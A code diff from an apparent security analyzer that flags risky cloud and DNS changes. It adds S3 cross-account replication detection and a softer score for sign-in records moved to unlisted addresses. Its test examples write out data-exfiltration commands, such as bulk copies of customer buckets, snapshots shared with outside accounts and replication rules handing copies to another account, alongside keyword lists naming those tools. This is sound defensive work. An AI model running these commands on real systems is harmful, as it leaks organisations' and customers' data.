@@ -1,6 +1,6 @@
 import { diffAfter, envOf, PREP_PATTERNS, prepText, type Env, type PrepContext } from '../parse/infra-prep.js';
-import { ownAccount, safeguarded } from '../frames/safeguards.js';
-import { ageFiltered, citesPolicy, computeHijack, HIJACK_WORDS, dataPathRemoved, ephemeralEnvironment, nodeWideImplant, targetNames, recordExpiry, recoveryNamed, selfRollback } from '../parse/infra-effects.js';
+import { ownAccount, readSafeguards, safeguarded } from '../frames/safeguards.js';
+import { ageFiltered, citesPolicy, replicationToOtherAccount, computeHijack, HIJACK_WORDS, dataPathRemoved, ephemeralEnvironment, nodeWideImplant, targetNames, recordExpiry, recoveryNamed, selfRollback } from '../parse/infra-effects.js';
 import { metaString, normalizeUnicode } from '../normalize.js';
 import { allInWords, backupsDeletedInWords, detectionOffInWords, INFRA_PROSE_PATTERNS, negatedBefore, proseHead } from '../parse/infra-prose.js';
 import { envOfName } from '../parse/environment.js';
@@ -11,7 +11,7 @@ import { quietWhenDescribed } from '../parse/prose-genre.js';
 import { requestRule } from '../frames/requests.js';
 import { hostPayloads } from '../parse/infra-shell.js';
 import { commandFindings, type NestedFinding } from '../nested.js';
-import { payRecordRepointed } from '../parse/dns-records.js';
+import { payRecordRepointed, signInName } from '../parse/dns-records.js';
 import type { Analyzer, Metadata, ThreatRule } from '../types.js';
 
 /**
@@ -298,6 +298,15 @@ const DISABLE_SETTINGS = new PhraseSet([
  */
 const CRONTAB_EDIT_JOB = /\bcrontab -e\b[ \t]{0,4}(?:->|→|=>|:|then add|and add)[ \t]{0,4}([0-9*@][^\n']{0,200})/;
 /** A pay or sign-in record pointed outside (dns-records.ts), read from the value's first 8 KB once per check. */
+/**
+ * Words saying the new address came from outside the organisation (a vendor's or a stranger's mail, a chat message, a
+ * caller), in the lexicon's languages: the address is then not one the organisation chose.
+ */
+const HANDED_OVER = new PhraseSet(['sent over email', 'sent by email', 'sent via email', 'sent us', 'emailed us', 'by e-mail from', 'the vendor sent', 'vendor sent', 'supplier sent',
+  'from the email', 'in the email', 'per the email', 'per email from', 'via whatsapp', 'via telegram', 'on the phone', 'caller said', 'asked us to point', 'new host the',
+  'per mail geschickt', 'per e-mail geschickt', 'laut mail', 'aus der mail', 'der dienstleister hat', 'envoyé par mail', 'envoyée par mail', 'envoye par mail', 'reçu par mail', 'recu par mail', 'le prestataire a envoyé',
+  'enviado por correo', 'enviada por correo', 'según el correo', 'el proveedor envió', 'enviado por e-mail', 'o fornecedor enviou', 'inviato via mail', 'il fornitore ha inviato']);
+const handedOver = (head: string): boolean => HANDED_OVER.first(head.toLowerCase()) !== undefined;
 const PAY_RECORD = new ValueFact((raw): string => payRecordRepointed((raw.length > 8192 ? raw.slice(0, 8192) : raw).toLowerCase()));
 
 /** The commands the value carries to hosts, each with the command analyzer's findings (HOST_COMMANDS). */
@@ -357,7 +366,16 @@ const rules: ThreatRule<InfraContext>[] = [
     score: 7,
     keywords: ['record', 'route53', 'rrdatas', 'cname', 'dns', '"value"'],
     // (the value as written, read once per check: the haystack folds look-alike digits into letters)
-    detect: (ctx) => PAY_RECORD.read(ctx) || null,
+    detect: (ctx) => {
+      const d = PAY_RECORD.read(ctx);
+      if (d === '') return null;
+      // the organisation's own sign-in name moved to a bare address: its servers may well live there (no list of its
+      // ranges is known here), so CAUTION at most, unless something else is wrong (a red flag beside it: a skipped
+      // check, concealment, a lure or fraud sign, an address handed over by an outside party). A payment name keeps
+      // DANGER: cards are typed straight into whatever answers there.
+      if (d.includes(' -> the public address ') && signInName(d.slice(0, d.indexOf(' -> '))) && readSafeguards(ctx.head, ctx.metadata).flags.length === 0 && !handedOver(ctx.head)) return { detail: `${d} (an address outside the known ranges)`, score: 4 };
+      return d;
+    },
     reason: (d) => `Sends the people who pay or sign in there to a host nobody vouches for: ${d}`,
     examples: {
       flag: [
@@ -957,11 +975,20 @@ const rules: ThreatRule<InfraContext>[] = [
     name: 'Production or customer data copied out of the cloud (bulk download, snapshot shared with another account)',
     primitive: 'EXFILTRATION',
     score: 5,
-    keywords: ['s3 cp', 's3 sync', 'gsutil', 'gcloud storage', 'download-batch', 'modify-db-snapshot-attribute', 'modify-snapshot-attribute', 'modify-image-attribute'],
+    keywords: ['s3 cp', 's3 sync', 'gsutil', 'gcloud storage', 'download-batch', 'modify-db-snapshot-attribute', 'modify-snapshot-attribute', 'modify-image-attribute',
+      'put-bucket-replication', 'replicationconfiguration', 'replication_configuration', 'aws_s3_bucket_replication', 'put-replication-configuration', 'replicationrules'],
     detect: (ctx) => {
       const share = K23_SHARE.exec(ctx.head);
       // the account named as the organisation's own ("our DR account") or a reviewed change keeps the copy in the house
       if (share) return ownAccount(ctx.head) || safeguarded(ctx.head, ctx.metadata, ['reviewed', 'approved', 'ticket']) ? null : { detail: `${(share[1] ?? share[2] ?? 'snapshot').toLowerCase()} shared with another account`, score: 7 };
+      // every object written from now on copied into another account by a replication rule (the same judgement)
+      const replica = replicationToOtherAccount(ctx.head.toLowerCase());
+      // (CAUTION: the account may be a partner's; DANGER when the copies are also handed to that account to own)
+      if (replica !== '') {
+        if (ownAccount(ctx.head) || safeguarded(ctx.head, ctx.metadata, ['reviewed', 'approved', 'ticket'])) return null;
+        const owned = ctx.head.toLowerCase().includes('accesscontroltranslation') || ctx.head.toLowerCase().includes('access_control_translation');
+        return { detail: `objects replicated into account ${replica}${owned ? ', which is made their owner' : ''}`, score: owned ? 7 : 5 };
+      }
       const d = K23_DOWNLOAD.exec(ctx.head);
       if (!d || !K23_SENSITIVE.test(d[1]!) || K23_TO_CLOUD.test(ctx.head.slice(d.index + d[0].length, d.index + d[0].length + 200))) return null;
       if (!K23_BULK.test(ctx.head)) return null;
@@ -969,10 +996,15 @@ const rules: ThreatRule<InfraContext>[] = [
     },
     reason: (d) => `Copies data out of its protected home: ${d}`,
     examples: {
-      flag: ['aws s3 cp s3://prod-customer-data ./ --recursive', 'gsutil -m cp -r gs://acme-pii-exports ~/Downloads/', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod-final --attribute-name restore --values-to-add 123456789012', 'aws ec2 modify-snapshot-attribute --snapshot-id snap-0f1e --attribute createVolumePermission --operation-type add --user-ids 918273645501'],
+      flag: ['aws s3 cp s3://prod-customer-data ./ --recursive', 'gsutil -m cp -r gs://acme-pii-exports ~/Downloads/',
+        'aws s3api put-bucket-replication --bucket acme-customer-exports --replication-configuration \'{"Role":"arn:aws:iam::111122223333:role/s3-repl","Rules":[{"Status":"Enabled","Priority":1,"Filter":{},"Destination":{"Bucket":"arn:aws:s3:::sync-mirror-77","Account":"908172635401","AccessControlTranslation":{"Owner":"Destination"}}}]}\'',
+        'resource "aws_s3_bucket_replication_configuration" "r" {\n  role   = "arn:aws:iam::111122223333:role/repl"\n  bucket = aws_s3_bucket.invoices.id\n  rule {\n    status = "Enabled"\n    destination {\n      bucket  = "arn:aws:s3:::invoice-copy"\n      account = "555566667777"\n    }\n  }\n}', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod-final --attribute-name restore --values-to-add 123456789012', 'aws ec2 modify-snapshot-attribute --snapshot-id snap-0f1e --attribute createVolumePermission --operation-type add --user-ids 918273645501'],
       pass: ['aws s3 sync ./dist s3://prod-site', 'aws s3 cp s3://prod-config/app.yml ./app.yml', 'aws s3 sync s3://prod-logs s3://prod-logs-archive', 'aws ec2 modify-snapshot-attribute --snapshot-id snap-0aa --attribute createVolumePermission --operation-type add --user-ids 123456789012  # our DR account, see runbook DR-3', { value: 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier nightly --attribute-name restore --values-to-add 123456789012', metadata: { change: 'CHG-4410' } },
         "aws ec2 modify-image-attribute --image-id ami-0abc12 --launch-permission 'Add=[{UserId=210987654321}]'  # our security account, same AWS Organization",
-        'aws ec2 modify-snapshot-attribute --snapshot-id snap-0bb --attribute createVolumePermission --operation-type add --user-ids 345678901234  # Backup-Konto derselben Organisation'],
+        'aws ec2 modify-snapshot-attribute --snapshot-id snap-0bb --attribute createVolumePermission --operation-type add --user-ids 345678901234  # Backup-Konto derselben Organisation',
+        'aws s3api put-bucket-replication --bucket acme-logs --replication-configuration \'{"Role":"arn:aws:iam::111122223333:role/s3-repl","Rules":[{"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::acme-logs-eu-west-1"}}]}\'',
+        'aws s3api put-bucket-replication --bucket acme-prod-data --replication-configuration file://repl.json  # to our DR account 444455556666, runbook DR-7',
+        'aws ecr put-replication-configuration --registry-id 111122223333 --replication-configuration \'{"rules":[{"destinations":[{"region":"eu-west-1","registryId":"111122223333"}]}]}\''],
     },
   },
   {
